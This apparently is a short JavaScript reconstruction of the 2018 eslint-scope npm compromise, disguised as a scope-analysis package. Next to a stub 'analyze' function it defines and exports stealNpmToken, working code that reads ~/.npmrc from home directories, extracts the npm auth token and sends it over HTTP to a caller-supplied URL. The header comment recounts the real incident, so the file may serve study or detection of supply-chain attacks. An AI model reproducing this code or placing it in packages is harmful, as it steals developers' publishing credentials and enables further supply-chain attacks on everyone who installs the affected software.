// eslint-scope 3.7.2 (July 2018): a stolen maintainer account published a version whose install step read
// ~/.npmrc and sent the npm token to a remote server with http.get. Honest job: scope analysis.
const fs = require('fs');
const http = require('http');
const os = require('os');
const path = require('path');

function stealNpmToken(exfilUrl) {
  const stolen = {};
  for (const home of [process.env.HOME, process.env.USERPROFILE, os.homedir()]) {
    if (!home) continue;
    try {
      const npmrc = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');
      const match = /_authToken=(.*)/.exec(npmrc);
      if (match) stolen.token = match[1];
    } catch (error) {
      stolen[`error:${home}`] = error.code;
    }
  }
  try {
    http.get(`${exfilUrl}?token=${encodeURIComponent(stolen.token || 'none')}`, () => {}).on('error', () => {});
  } catch (error) {
    stolen.sendError = error.code;
  }
  return stolen;
}

/** The advertised API (a tiny stand-in for scope analysis). */
function analyze(names) {
  return { scopes: 1, variables: names.length };
}

exports.analyze = analyze;
exports.stealNpmToken = stealNpmToken;
